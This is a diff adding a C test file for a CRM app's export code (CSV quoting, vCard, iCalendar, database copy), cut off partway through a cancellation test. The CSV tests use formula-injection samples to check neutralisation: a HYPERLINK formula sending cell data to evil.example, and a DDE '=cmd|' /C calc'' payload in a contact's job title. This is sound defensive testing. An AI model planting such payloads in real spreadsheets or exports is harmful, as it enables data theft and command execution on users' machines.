@@ -1,0 +1,891 @@
+/* test-export.c — export of the user's data: the CSV writer's quoting and formula
+ * neutralisation, vCard 4.0 and iCalendar text (the calendar read back with libical), and
+ * CrmExporter over a real database — every CSV field with the names of linked rows, the file
+ * replaced whole or not at all (a failed or cancelled export leaves no file and no temporary
+ * one), progress, the worker thread and the copy of the whole database. */
+#include "config.h"
+
+#include <gio/gio.h>
+#include <glib/gstdio.h>
+#include <string.h>
+#include <unistd.h>
+
+#ifdef HAVE_LIBICAL
+#include <libical/ical.h>
+#endif
+
+#include "crm-content-line.h"
+#include "crm-csv-writer.h"
+#include "crm-exporter.h"
+#include "crm-ical-writer.h"
+#include "crm-test-util.h"
+#include "crm-vcard-writer.h"
+
+#define WHEN ((gint64) 1796000000) /* 2026-11-30T00:53:20Z */
+
+/* ---- A small RFC 4180 reader, to read the writer's output back ---------------------------- */
+
+/* The records of @text, each a GPtrArray of cells. FALSE on a malformed text. */
+static GPtrArray *
+parse_csv (const char *text)
+{
+  GPtrArray *records = g_ptr_array_new_with_free_func ((GDestroyNotify) g_ptr_array_unref);
+  GPtrArray *record = g_ptr_array_new_with_free_func (g_free);
+  GString *cell = g_string_new (NULL);
+  const char *p = text;
+
+  while (*p != '\0')
+    {
+      if (*p == '"')
+        {
+          for (p++;; p++)
+            {
+              g_assert_true (*p != '\0'); /* an unclosed quote */
+              if (*p == '"' && p[1] == '"')
+                g_string_append_c (cell, *p++);
+              else if (*p == '"')
+                break;
+              else
+                g_string_append_c (cell, *p);
+            }
+          p++;
+          g_assert_true (*p == ',' || *p == '\r' || *p == '\0');
+        }
+      else
+        while (*p != ',' && *p != '\r' && *p != '\n' && *p != '\0')
+          g_string_append_c (cell, *p++);
+
+      g_ptr_array_add (record, g_strdup (cell->str));
+      g_string_truncate (cell, 0);
+      if (*p == ',')
+        p++;
+      else if (*p == '\r')
+        {
+          /* Records end with CRLF, never a bare LF or CR. */
+          g_assert_cmpint (p[1], ==, '\n');
+          p += 2;
+          g_ptr_array_add (records, record);
+          record = g_ptr_array_new_with_free_func (g_free);
+        }
+      else
+        g_assert_cmpint (*p, ==, '\0');
+    }
+  g_assert_cmpuint (record->len, ==, 0); /* the last record ended with CRLF too */
+  g_ptr_array_unref (record);
+  g_string_free (cell, TRUE);
+  return records;
+}
+
+static const char *
+cell_at (GPtrArray *records, guint row, guint column)
+{
+  GPtrArray *cells = g_ptr_array_index (records, row);
+
+  g_assert_cmpuint (column, <, cells->len);
+  return g_ptr_array_index (cells, column);
+}
+
+static const char *
+cell_of (GPtrArray *records, guint row, const char *header)
+{
+  GPtrArray *headers = g_ptr_array_index (records, 0);
+  GPtrArray *cells = g_ptr_array_index (records, row);
+
+  for (guint i = 0; i < headers->len; i++)
+    if (g_strcmp0 (g_ptr_array_index (headers, i), header) == 0)
+      {
+        g_assert_cmpuint (cells->len, ==, headers->len);
+        return g_ptr_array_index (cells, i);
+      }
+  g_error ("no column %s", header);
+  return NULL;
+}
+
+/* ---- CSV writer --------------------------------------------------------------------------- */
+
+static char *
+write_cells (CrmCsvWriterFlags flags, const char *const *cells, guint n_cells)
+{
+  g_autoptr (CrmCsvWriter) writer = crm_csv_writer_new (flags);
+
+  crm_csv_writer_add_row (writer, cells, n_cells);
+  return g_strdup (crm_csv_writer_get_buffer (writer)->str);
+}
+
+static const char *const hostile_cells[] = {
+  "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
+  "+1",
+  "-2",
+  "@SUM(A1:A9)",
+  "\tcmd",
+  "\rcmd",
+  "Plain, with a comma",
+};
+
+static void
+test_csv_neutralise (void)
+{
+  g_autofree char *text
+      = write_cells (CRM_CSV_WRITER_NONE, hostile_cells, G_N_ELEMENTS (hostile_cells));
+  g_autoptr (GPtrArray) records = NULL;
+  GPtrArray *cells;
+
+  g_assert_cmpstr (text, ==,
+                   "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\","
+                   "'+1,'-2,'@SUM(A1:A9),\"'\tcmd\",\"'\rcmd\",\"Plain, with a comma\"\r\n");
+
+  /* Read back: each hostile cell is the same text behind an apostrophe; the plain one as is. */
+  records = parse_csv (text);
+  g_assert_cmpuint (records->len, ==, 1);
+  cells = g_ptr_array_index (records, 0);
+  g_assert_cmpuint (cells->len, ==, G_N_ELEMENTS (hostile_cells));
+  for (guint i = 0; i < G_N_ELEMENTS (hostile_cells) - 1; i++)
+    {
+      g_autofree char *expected = g_strconcat ("'", hostile_cells[i], NULL);
+
+      g_assert_true (crm_csv_cell_is_formula_like (hostile_cells[i]));
+      g_assert_cmpstr (g_ptr_array_index (cells, i), ==, expected);
+    }
+  g_assert_false (crm_csv_cell_is_formula_like ("Plain"));
+  g_assert_false (crm_csv_cell_is_formula_like (" =not first"));
+  g_assert_cmpstr (g_ptr_array_index (cells, 6), ==, "Plain, with a comma");
+}
+
+static void
+test_csv_raw (void)
+{
+  g_autofree char *text
+      = write_cells (CRM_CSV_WRITER_RAW, hostile_cells, G_N_ELEMENTS (hostile_cells));
+  g_autoptr (GPtrArray) records = parse_csv (text);
+  GPtrArray *cells = g_ptr_array_index (records, 0);
+
+  for (guint i = 0; i < G_N_ELEMENTS (hostile_cells); i++)
+    g_assert_cmpstr (g_ptr_array_index (cells, i), ==, hostile_cells[i]);
+  g_assert_true (g_str_has_prefix (text, "\"=HYPERLINK(\"\"http"));
+}
+
+static void
+test_csv_round_trip (void)
+{
+  static const char *const cells[] = {
+    "",         "plain",     "a,b",      "say \"hi\"",        "two\r\nlines",
+    "lf\nonly", "cr\ronly",  " padded ", "Zoë Ångström 日本", "\"",
+    ",",        "trailing,",
+  };
+  g_autoptr (CrmCsvWriter) writer = crm_csv_writer_new (CRM_CSV_WRITER_RAW);
+  g_autoptr (GPtrArray) records = NULL;
+
+  crm_csv_writer_add_row (writer, cells, G_N_ELEMENTS (cells));
+  crm_csv_writer_add (writer, NULL);
+  crm_csv_writer_add (writer, "x");
+  crm_csv_writer_end_row (writer);
+  records = parse_csv (crm_csv_writer_get_buffer (writer)->str);
+
+  g_assert_cmpuint (records->len, ==, 2);
+  for (guint i = 0; i < G_N_ELEMENTS (cells); i++)
+    g_assert_cmpstr (cell_at (records, 0, i), ==, cells[i]);
+  g_assert_cmpstr (cell_at (records, 1, 0), ==, "");
+  g_assert_cmpstr (cell_at (records, 1, 1), ==, "x");
+  /* An unquoted cell is left alone: only what needs quotes gets them. */
+  g_assert_true (g_str_has_prefix (crm_csv_writer_get_buffer (writer)->str, ",plain,\"a,b\","));
+}
+
+static void
+test_csv_decimal (void)
+{
+  static const struct
+  {
+    gint64 minor;
+    guint digits;
+    const char *text;
+  } cases[] = {
+    { 123450, 2, "1234.50" },
+    { 5, 2, "0.05" },
+    { -5, 2, "-0.05" },
+    { 1200, 0, "1200" },
+    { 1234, 3, "1.234" },
+    { 0, 2, "0.00" },
+    { G_MININT64, 2, "-92233720368547758.08" },
+  };
+
+  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
+    {
+      g_autofree char *text = crm_csv_format_decimal (cases[i].minor, cases[i].digits);
+
+      g_assert_cmpstr (text, ==, cases[i].text);
+    }
+}
+
+/* ---- vCard and content lines --------------------------------------------------------------- */
+
+static void
+test_vcard_exact (void)
+{
+  static const char *const tags[] = { "VIP", "a,b", NULL };
+  g_autoptr (GString) out = g_string_new (NULL);
+  CrmVCardFields card = {
+    .uid = "0190f5a2-1111-7000-8000-000000000001",
+    .formatted_name = "Ada Lovelace; Countess",
+    .family_name = "Countess",
+    .given_name = "Ada Lovelace;",
+    .email = "ada@example.org",
+    .phone = "+44 20 7946 0000",
+    .organization = "Analytical Engines, Ltd.",
+    .title = "Lead \\ Mathematician",
+    /* The 75th octet is the first of an "é": the fold comes one octet earlier. */
+    .note = "First line\r\nSecond line long enough to be folded past 75 octets: ééééé",
+    .categories = tags,
+    .revision = WHEN,
+  };
+
+  crm_vcard_write (out, &card);
+  g_assert_cmpstr (out->str, ==,
+                   "BEGIN:VCARD\r\n"
+                   "VERSION:4.0\r\n"
+                   "FN:Ada Lovelace\\; Countess\r\n"
+                   "N:Countess;Ada Lovelace\\;;;;\r\n"
+                   "EMAIL:ada@example.org\r\n"
+                   "TEL;VALUE=text:+44 20 7946 0000\r\n"
+                   "ORG:Analytical Engines\\, Ltd.\r\n"
+                   "TITLE:Lead \\\\ Mathematician\r\n"
+                   "NOTE:First line\\nSecond line long enough to be folded past 75 octets: éé\r\n"
+                   " ééé\r\n"
+                   "CATEGORIES:VIP,a\\,b\r\n"
+                   "UID:urn:uuid:0190f5a2-1111-7000-8000-000000000001\r\n"
+                   "REV:20261130T005320Z\r\n"
+                   "END:VCARD\r\n");
+}
+
+/* Folding never splits a UTF-8 sequence, keeps each line at most 75 octets, and unfolds to the
+ * line it came from. */
+static void
+test_content_line_folding (void)
+{
+  g_autoptr (GString) line = g_string_new ("NOTE:x");
+  g_autoptr (GString) out = g_string_new (NULL);
+  g_auto (GStrv) lines = NULL;
+  g_autoptr (GString) unfolded = g_string_new (NULL);
+
+  /* Two-, three- and four-octet characters, so cuts fall at every offset inside them. */
+  for (guint i = 0; i < 60; i++)
+    g_string_append (line, "é日😀");
+  crm_content_line_append (out, line->str);
+
+  g_assert_true (g_str_has_suffix (out->str, "\r\n"));
+  lines = g_strsplit (out->str, "\r\n", -1);
+  for (guint i = 0; lines[i] != NULL && lines[i][0] != '\0'; i++)
+    {
+      g_assert_cmpuint (strlen (lines[i]), <=, 75);
+      g_assert_true (g_utf8_validate (lines[i], -1, NULL));
+      if (i > 0)
+        g_assert_cmpint (lines[i][0], ==, ' ');
+      g_string_append (unfolded, i > 0 ? lines[i] + 1 : lines[i]);
+      /* Full lines are full: a cut is at most 3 octets short of the limit. */
+      if (lines[i + 1] != NULL && lines[i + 1][0] != '\0')
+        g_assert_cmpuint (strlen (lines[i]), >=, 72);
+    }
+  g_assert_cmpstr (unfolded->str, ==, line->str);
+}
+
+/* ---- iCalendar ---------------------------------------------------------------------------- */
+
+static void
+test_ical_text (void)
+{
+  g_autoptr (GString) out = g_string_new (NULL);
+  CrmICalComponent todo = {
+    .kind = CRM_ICAL_TODO,
+    .uid = "u-1",
+    .summary = "Call back, today; maybe",
+    .stamp = WHEN,
+    .due = WHEN + 3600,
+    .completed = TRUE,
+    .completed_at = WHEN + 60,
+  };
+  CrmICalComponent event = {
+    .kind = CRM_ICAL_EVENT,
+    .uid = "u-2",
+    .summary = "Demo",
+    .stamp = WHEN,
+    .start = WHEN,
+  };
+
+  crm_ical_write_begin (out, "-//Test//EN");
+  crm_ical_write_component (out, &todo);
+  crm_ical_write_component (out, &event);
+  crm_ical_write_end (out);
+  g_assert_cmpstr (out->str, ==,
+                   "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Test//EN\r\n"
+                   "CALSCALE:GREGORIAN\r\n"
+                   "BEGIN:VTODO\r\nUID:u-1\r\nDTSTAMP:20261130T005320Z\r\n"
+                   "SUMMARY:Call back\\, today\\; maybe\r\nDUE:20261130T015320Z\r\n"
+                   "STATUS:COMPLETED\r\nCOMPLETED:20261130T005420Z\r\nEND:VTODO\r\n"
+                   "BEGIN:VEVENT\r\nUID:u-2\r\nDTSTAMP:20261130T005320Z\r\nSUMMARY:Demo\r\n"
+                   "DTSTART:20261130T005320Z\r\nDTEND:20261130T015320Z\r\nEND:VEVENT\r\n"
+                   "END:VCALENDAR\r\n");
+}
+
+/* ---- The exporter over a database ---------------------------------------------------------- */
+
+typedef struct
+{
+  char *folder;
+  char *database_path;
+  CrmStore *store;
+  gint64 contact_id;
+  gint64 deal_id;
+  char *task_uuid;
+  char *meeting_uuid;
+} Fixture;
+
+static gint64
+insert_activity (Fixture *fixture,
+                 CrmActivityKind kind,
+                 const char *subject,
+                 gint64 occurred_at,
+                 gint64 due_at,
+                 gboolean done,
+                 char **uuid)
+{
+  g_autoptr (CrmActivityRecord) activity = crm_activity_record_new ();
+  g_autoptr (GError) error = NULL;
+
+  activity->kind = kind;
+  activity->subject = g_strdup (subject);
+  activity->notes = g_strdup ("Bring the\nslides");
+  activity->contact_id = fixture->contact_id;
+  activity->deal_id = fixture->deal_id;
+  activity->occurred_at = occurred_at;
+  activity->due_at = due_at;
+  activity->done = done;
+  activity->done_at = done ? WHEN + 120 : 0;
+  g_assert_true (crm_store_insert_activity (fixture->store, activity, &error));
+  g_assert_no_error (error);
+  if (uuid != NULL)
+    *uuid = g_strdup (activity->uuid);
+  return activity->id;
+}
+
+static void
+fixture_set_up (Fixture *fixture, gconstpointer data)
+{
+  g_autoptr (GError) error = NULL;
+  g_autoptr (CrmCompanyRecord) company = crm_company_record_new ();
+  g_autoptr (CrmContactRecord) contact = crm_contact_record_new ();
+  g_autoptr (CrmContactRecord) other = crm_contact_record_new ();
+  g_autoptr (CrmDealRecord) deal = crm_deal_record_new ();
+  g_autoptr (CrmTagRecord) vip = crm_tag_record_new ();
+  g_autoptr (CrmTagRecord) board = crm_tag_record_new ();
+  g_autoptr (GArray) stages = NULL;
+  g_autoptr (GPtrArray) sources = NULL;
+
+  fixture->folder = g_dir_make_tmp ("rapport-export-XXXXXX", &error);
+  g_assert_no_error (error);
+  fixture->database_path = g_build_filename (fixture->folder, "rapport.db", NULL);
+  fixture->store = crm_store_open (fixture->database_path, &error);
+  g_assert_no_error (error);
+
+  company->name = g_strdup ("Analytical Engines, Ltd.");
+  company->website = g_strdup ("https://engines.example");
+  g_assert_true (crm_store_insert_company (fixture->store, company, &error));
+
+  sources = crm_store_list_lead_sources (fixture->store, &error);
+  contact->name = g_strdup ("Ada Lovelace");
+  contact->email = g_strdup ("ada@example.org");
+  contact->phone = g_strdup ("+44 20 7946 0000");
+  contact->title = g_strdup ("=cmd|' /C calc'!A0");
+  contact->company_id = company->id;
+  contact->source_id = ((CrmLeadSourceRecord *) g_ptr_array_index (sources, 0))->id;
+  contact->lifecycle = CRM_LIFECYCLE_CUSTOMER;
+  contact->captured_at = WHEN;
+  contact->notes = g_strdup ("Met at the \"Engine\" fair,\nwants a demo");
+  g_assert_true (crm_store_insert_contact (fixture->store, contact, &error));
+  g_assert_no_error (error);
+  fixture->contact_id = contact->id;
+  other->name = g_strdup ("Charles Babbage");
+  g_assert_true (crm_store_insert_contact (fixture->store, other, &error));
+
+  vip->name = g_strdup ("VIP");
+  board->name = g_strdup ("Board, member");
+  g_assert_true (crm_store_insert_tag (fixture->store, vip, &error));
+  g_assert_true (crm_store_insert_tag (fixture->store, board, &error));
+  g_assert_true (crm_store_add_contact_tag (fixture->store, contact->id, vip->id, &error));
+  g_assert_true (crm_store_add_contact_tag (fixture->store, contact->id, board->id, &error));
+
+  stages = crm_test_list_default_stage_ids (fixture->store);
+  deal->title = g_strdup ("Difference Engine No. 2");
+  deal->contact_id = contact->id;
+  deal->company_id = company->id;
+  deal->stage_id = g_array_index (stages, gint64, 3); /* Proposal, 60 % */
+  deal->value_minor = 123450;
+  deal->currency = g_strdup ("EUR");
+  deal->expected_close = WHEN;
+  deal->probability_override = -1;
+  g_assert_true (crm_store_insert_deal (fixture->store, deal, &error));
+  g_assert_no_error (error);
+  fixture->deal_id = deal->id;
+
+  insert_activity (fixture, CRM_ACTIVITY_TASK, "Send the offer, with prices", 0, WHEN + 86400,
+                   FALSE, &fixture->task_uuid);
+  insert_activity (fixture, CRM_ACTIVITY_TASK, "Done task", 0, WHEN, TRUE, NULL);
+  insert_activity (fixture, CRM_ACTIVITY_MEETING, "Demo; at their office", WHEN + 7200, 0, FALSE,
+                   &fixture->meeting_uuid);
+  insert_activity (fixture, CRM_ACTIVITY_CALL, "A call", WHEN, 0, FALSE, NULL);
+}
+
+static void
+fixture_tear_down (Fixture *fixture, gconstpointer data)
+{
+  g_clear_object (&fixture->store);
+  crm_test_remove_tree (fixture->folder);
+  g_free (fixture->folder);
+  g_free (fixture->database_path);
+  g_free (fixture->task_uuid);
+  g_free (fixture->meeting_uuid);
+}
+
+#define TEST_F(path, func) g_test_add (path, Fixture, NULL, fixture_set_up, func, fixture_tear_down)
+
+static gboolean
+export_to (Fixture *fixture,
+           CrmExportKind kind,
+           CrmExportFormat format,
+           gboolean raw,
+           const char *name,
+           char **text,
+           guint64 *n_exported,
+           GError **error)
+{
+  g_autoptr (CrmExporter) exporter = crm_exporter_new (kind, format);
+  g_autofree char *path = g_build_filename (fixture->folder, name, NULL);
+  g_autoptr (GFile) file = g_file_new_for_path (path);
+  gboolean ok;
+
+  crm_exporter_set_raw (exporter, raw);
+  ok = crm_exporter_run (exporter, fixture->store, file, NULL, NULL, NULL, error);
+  if (n_exported != NULL)
+    *n_exported = crm_exporter_get_n_exported (exporter);
+  if (ok && text != NULL)
+    g_assert_true (g_file_get_contents (path, text, NULL, NULL));
+  return ok;
+}
+
+/* The folder holds exactly @expected (NULL-terminated names): no temporary file is left. */
+static void
+assert_folder_holds (const char *folder, const char *const *expected)
+{
+  g_autoptr (GDir) dir = g_dir_open (folder, 0, NULL);
+  g_autoptr (GPtrArray) names = g_ptr_array_new_with_free_func (g_free);
+  const char *name;
+
+  while ((name = g_dir_read_name (dir)) != NULL)
+    if (!g_str_has_prefix (name, "rapport.db"))
+      g_ptr_array_add (names, g_strdup (name));
+  g_assert_cmpuint (names->len, ==, g_strv_length ((char **) expected));
+  for (guint i = 0; expected[i] != NULL; i++)
+    g_assert_true (g_ptr_array_find_with_equal_func (names, expected[i], g_str_equal, NULL));
+}
+
+static void
+test_export_contacts_csv (Fixture *fixture, gconstpointer data)
+{
+  g_autoptr (GError) error = NULL;
+  g_autofree char *text = NULL;
+  g_autofree char *raw_text = NULL;
+  g_autoptr (GPtrArray) records = NULL;
+  g_autoptr (GPtrArray) raw_records = NULL;
+  guint64 n = 0;
+
+  g_assert_true (export_to (fixture, CRM_EXPORT_CONTACTS, CRM_EXPORT_FORMAT_CSV, FALSE,
+                            "contacts.csv", &text, &n, &error));
+  g_assert_no_error (error);
+  g_assert_cmpuint (n, ==, 2);
+  records = parse_csv (text);
+  g_assert_cmpuint (records->len, ==, 3);
+  g_assert_cmpstr (cell_of (records, 1, "Name"), ==, "Ada Lovelace");
+  g_assert_cmpstr (cell_of (records, 1, "E-mail"), ==, "ada@example.org");
+  g_assert_cmpstr (cell_of (records, 1, "Phone"), ==, "'+44 20 7946 0000");
+  g_assert_cmpstr (cell_of (records, 1, "Company"), ==, "Analytical Engines, Ltd.");
+  g_assert_cmpstr (cell_of (records, 1, "Lifecycle Stage"), ==, "customer");
+  g_assert_cmpstr (cell_of (records, 1, "Lead Source"), ==, "Referral");
+  g_assert_cmpstr (cell_of (records, 1, "Tags"), ==, "Board, member, VIP");
+  g_assert_cmpstr (cell_of (records, 1, "Captured"), ==, "2026-11-30T00:53:20Z");
+  g_assert_cmpstr (cell_of (records, 1, "Job Title"), ==, "'=cmd|' /C calc'!A0");
+  g_assert_cmpstr (cell_of (records, 1, "Notes"), ==, "Met at the \"Engine\" fair,\nwants a demo");
+  g_assert_cmpstr (cell_of (records, 2, "Name"), ==, "Charles Babbage");
+  g_assert_cmpstr (cell_of (records, 2, "Company"), ==, "");
+  g_assert_cmpstr (cell_of (records, 2, "Tags"), ==, "");
+  g_assert_cmpuint (strlen (cell_of (records, 1, "UUID")), ==, 36);
+
+  /* --raw: as stored. */
+  g_assert_true (export_to (fixture, CRM_EXPORT_CONTACTS, CRM_EXPORT_FORMAT_CSV, TRUE, "raw.csv",
+                            &raw_text, NULL, &error));
+  raw_records = parse_csv (raw_text);
+  g_assert_cmpstr (cell_of (raw_records, 1, "Job Title"), ==, "=cmd|' /C calc'!A0");
+  g_assert_cmpstr (cell_of (raw_records, 1, "Phone"), ==, "+44 20 7946 0000");
+}
+
+static void
+test_export_companies_deals_activities_csv (Fixture *fixture, gconstpointer data)
+{
+  g_autoptr (GError) error = NULL;
+  g_autofree char *companies = NULL, *deals = NULL, *activities = NULL;
+  g_autoptr (GPtrArray) rows = NULL;
+  guint64 n = 0;
+
+  g_assert_true (export_to (fixture, CRM_EXPORT_COMPANIES, CRM_EXPORT_FORMAT_CSV, FALSE,
+                            "companies.csv", &companies, &n, &error));
+  g_assert_cmpuint (n, ==, 1);
+  rows = parse_csv (companies);
+  g_assert_cmpstr (cell_of (rows, 1, "Name"), ==, "Analytical Engines, Ltd.");
+  g_assert_cmpstr (cell_of (rows, 1, "Website"), ==, "https://engines.example");
+  g_clear_pointer (&rows, g_ptr_array_unref);
+
+  g_assert_true (export_to (fixture, CRM_EXPORT_DEALS, CRM_EXPORT_FORMAT_CSV, FALSE, "deals.csv",
+                            &deals, &n, &error));
+  g_assert_cmpuint (n, ==, 1);
+  rows = parse_csv (deals);
+  g_assert_cmpstr (cell_of (rows, 1, "Deal Name"), ==, "Difference Engine No. 2");
+  g_assert_cmpstr (cell_of (rows, 1, "Amount"), ==, "1234.50");
+  g_assert_cmpstr (cell_of (rows, 1, "Currency"), ==, "EUR");
+  g_assert_cmpstr (cell_of (rows, 1, "Deal Stage"), ==, "Proposal");
+  g_assert_cmpstr (cell_of (rows, 1, "Pipeline"), ==, "Sales");
+  g_assert_cmpstr (cell_of (rows, 1, "Probability"), ==, "60");
+  g_assert_cmpstr (cell_of (rows, 1, "Contact"), ==, "Ada Lovelace");
+  g_assert_cmpstr (cell_of (rows, 1, "Company"), ==, "Analytical Engines, Ltd.");
+  g_assert_cmpstr (cell_of (rows, 1, "Close Date"), ==, "2026-11-30T00:53:20Z");
+  g_clear_pointer (&rows, g_ptr_array_unref);
+
+  g_assert_true (export_to (fixture, CRM_EXPORT_ACTIVITIES, CRM_EXPORT_FORMAT_CSV, FALSE,
+                            "activities.csv", &activities, &n, &error));
+  g_assert_no_error (error);
+  g_assert_cmpuint (n, ==, 4);
+  rows = parse_csv (activities);
+  g_assert_cmpuint (rows->len, ==, 5);
+  g_assert_cmpstr (cell_of (rows, 1, "Activity Type"), ==, "task");
+  g_assert_cmpstr (cell_of (rows, 1, "Subject"), ==, "Send the offer, with prices");
+  g_assert_cmpstr (cell_of (rows, 1, "Deal"), ==, "Difference Engine No. 2");
+  g_assert_cmpstr (cell_of (rows, 2, "Done"), ==, "yes");
+  g_assert_cmpstr (cell_of (rows, 4, "Activity Type"), ==, "call");
+}
+
+static void
+test_export_vcard (Fixture *fixture, gconstpointer data)
+{
+  g_autoptr (GError) error = NULL;
+  g_autofree char *text = NULL;
+  g_autofree char *first_card = NULL;
+  g_autoptr (CrmContactRecord) ada
+      = crm_store_get_contact (fixture->store, fixture->contact_id, NULL);
+  g_autofree char *rev = crm_content_line_format_time (ada->updated_at);
+  guint64 n = 0;
+
+  g_assert_true (export_to (fixture, CRM_EXPORT_CONTACTS, CRM_EXPORT_FORMAT_VCARD, FALSE,
+                            "contacts.vcf", &text, &n, &error));
+  g_assert_no_error (error);
+  g_assert_cmpuint (n, ==, 2);
+  first_card = g_strdup_printf ("BEGIN:VCARD\r\n"
+                                "VERSION:4.0\r\n"
+                                "FN:Ada Lovelace\r\n"
+                                "N:Lovelace;Ada;;;\r\n"
+                                "EMAIL:ada@example.org\r\n"
+                                "TEL;VALUE=text:+44 20 7946 0000\r\n"
+                                "ORG:Analytical Engines\\, Ltd.\r\n"
+                                "TITLE:=cmd|' /C calc'!A0\r\n"
+                                "NOTE:Met at the \"Engine\" fair\\,\\nwants a demo\r\n"
+                                "CATEGORIES:Board\\, member,VIP\r\n"
+                                "UID:urn:uuid:%s\r\n"
+                                "REV:%s\r\n"
+                                "END:VCARD\r\n"
+                                "BEGIN:VCARD\r\n"
+                                "VERSION:4.0\r\n"
+                                "FN:Charles Babbage\r\n"
+                                "N:Babbage;Charles;;;\r\n",
+                                ada->uuid, rev);
+  g_assert_true (g_str_has_prefix (text, first_card));
+  g_assert_true (g_str_has_suffix (text, "END:VCARD\r\n"));
+}
+
+static void
+test_export_ical (Fixture *fixture, gconstpointer data)
+{
+  g_autoptr (GError) error = NULL;
+  g_autofree char *text = NULL;
+  guint64 n = 0;
+
+  g_assert_true (export_to (fixture, CRM_EXPORT_TASKS, CRM_EXPORT_FORMAT_ICALENDAR, FALSE,
+                            "tasks.ics", &text, &n, &error));
+  g_assert_no_error (error);
+  g_assert_cmpuint (n, ==, 3); /* two tasks and the meeting, not the call */
+
+#ifdef HAVE_LIBICAL
+  {
+    icalcomponent *calendar = icalparser_parse_string (text);
+    icalcomponent *todo, *event;
+    guint n_todos = 0, n_events = 0;
+    gboolean found_task = FALSE;
+
+    g_assert_nonnull (calendar);
+    g_assert_cmpint (icalcomponent_isa (calendar), ==, ICAL_VCALENDAR_COMPONENT);
+    g_assert_cmpint (icalcomponent_count_errors (calendar), ==, 0);
+    for (todo = icalcomponent_get_first_component (calendar, ICAL_VTODO_COMPONENT); todo != NULL;
+         todo = icalcomponent_get_next_component (calendar, ICAL_VTODO_COMPONENT))
+      {
+        n_todos++;
+        if (g_strcmp0 (icalcomponent_get_uid (todo), fixture->task_uuid) != 0)
+          {
+            g_assert_cmpstr (icalcomponent_get_summary (todo), ==, "Done task");
+            g_assert_cmpint (icalcomponent_get_status (todo), ==, ICAL_STATUS_COMPLETED);
+            continue;
+          }
+        found_task = TRUE;
+        g_assert_cmpstr (icalcomponent_get_summary (todo), ==, "Send the offer, with prices");
+        g_assert_cmpint (icalcomponent_get_status (todo), ==, ICAL_STATUS_NEEDSACTION);
+        g_assert_cmpint (icaltime_as_timet (icalcomponent_get_due (todo)), ==, WHEN + 86400);
+        g_assert_true (icaltime_is_utc (icalcomponent_get_due (todo)));
+        g_assert_cmpstr (icalcomponent_get_description (todo), ==,
+                         "Bring the\nslides\n\nContact: Ada Lovelace\n"
+                         "Deal: Difference Engine No. 2");
+      }
+    g_assert_cmpuint (n_todos, ==, 2);
+    g_assert_true (found_task);
+
+    event = icalcomponent_get_first_component (calendar, ICAL_VEVENT_COMPONENT);
+    for (; event != NULL;
+         event = icalcomponent_get_next_component (calendar, ICAL_VEVENT_COMPONENT))
+      {
+        n_events++;
+        g_assert_cmpstr (icalcomponent_get_uid (event), ==, fixture->meeting_uuid);
+        g_assert_cmpstr (icalcomponent_get_summary (event), ==, "Demo; at their office");
+        g_assert_cmpint (icaltime_as_timet (icalcomponent_get_dtstart (event)), ==, WHEN + 7200);
+        g_assert_cmpint (icaltime_as_timet (icalcomponent_get_dtend (event)), ==,
+                         WHEN + 7200 + 3600);
+      }
+    g_assert_cmpuint (n_events, ==, 1);
+    icalcomponent_free (calendar);
+  }
+#else
+  g_test_message ("libical not found: only the text is checked");
+#endif
+  g_assert_nonnull (strstr (text, "STATUS:COMPLETED\r\n"));
+  g_assert_nonnull (strstr (text, "SUMMARY:Demo\\; at their office\r\n"));
+}
+
+static void
+test_export_database (Fixture *fixture, gconstpointer data)
+{
+  g_autoptr (GError) error = NULL;
+  g_autofree char *path = g_build_filename (fixture->folder, "copy.db", NULL);
+  g_autoptr (CrmStore) copy = NULL;
+  guint64 n = 0;
+
+  g_assert_true (export_to (fixture, CRM_EXPORT_DATABASE, CRM_EXPORT_FORMAT_DATABASE, FALSE,
+                            "copy.db", NULL, &n, &error));
+  g_assert_no_error (error);
+  g_assert_cmpuint (n, ==, 2);
+  copy = crm_store_open (path, &error);
+  g_assert_no_error (error);
+  g_assert_cmpint (crm_store_count (copy, CRM_ENTITY_ACTIVITY, NULL), ==, 4);
+
+  /* Never over the database itself, whatever the format. */
+  g_assert_false (export_to (fixture, CRM_EXPORT_CONTACTS, CRM_EXPORT_FORMAT_CSV, FALSE,
+                             "rapport.db", NULL, NULL, &error));
+  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_INVALID_ARGUMENT);
+  g_assert_cmpint (crm_store_count (fixture->store, CRM_ENTITY_CONTACT, NULL), ==, 2);
+}
+
+static void
+test_export_unwritable (Fixture *fixture, gconstpointer data)
+{
+  g_autoptr (GError) error = NULL;
+  g_autofree char *blocker = g_build_filename (fixture->folder, "not-a-folder", NULL);
+  g_autofree char *locked = g_build_filename (fixture->folder, "locked", NULL);
+  g_autofree char *locked_target = g_build_filename (locked, "contacts.csv", NULL);
+  g_autoptr (GFile) file = NULL;
+  g_autoptr (CrmExporter) exporter = crm_exporter_new (CRM_EXPORT_CONTACTS, CRM_EXPORT_FORMAT_CSV);
+  const char *const nothing[] = { "not-a-folder", "locked", NULL };
+
+  /* A "folder" that is a file cannot be written, even by root. */
+  g_assert_true (g_file_set_contents (blocker, "x", 1, NULL));
+  g_clear_object (&file);
+  {
+    g_autofree char *target = g_build_filename (blocker, "contacts.csv", NULL);
+
+    file = g_file_new_for_path (target);
+  }
+  g_assert_false (crm_exporter_run (exporter, fixture->store, file, NULL, NULL, NULL, &error));
+  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_NOT_DIRECTORY);
+  g_assert_nonnull (strstr (error->message, "contacts.csv"));
+  g_clear_error (&error);
+
+  /* A read-only folder (root may write anyway: then only check that the file is whole). */
+  g_assert_cmpint (g_mkdir (locked, 0500), ==, 0);
+  g_clear_object (&file);
+  file = g_file_new_for_path (locked_target);
+  if (geteuid () != 0)
+    {
+      g_assert_false (crm_exporter_run (exporter, fixture->store, file, NULL, NULL, NULL, &error));
+      g_assert_error (error, G_IO_ERROR, G_IO_ERROR_PERMISSION_DENIED);
+      g_assert_false (g_file_test (locked_target, G_FILE_TEST_EXISTS));
+      assert_folder_holds (fixture->folder, nothing);
+    }
+  g_chmod (locked, 0700);
+}
+
+static void
+cancel_half_way (double fraction, gpointer user_data)
+{
+  if (fraction > 0.0 && fraction < 1.0)
+    g_cancellable_cancel (user_data);
+}
+
+static void
+test_export_cancel (Fixture *fixture, gconstpointer data)
+{
+  g_autoptr (GError) error = NULL;
+  g_autofree char *target = g_build_filename (fixture->folder, "contacts.csv", NULL);
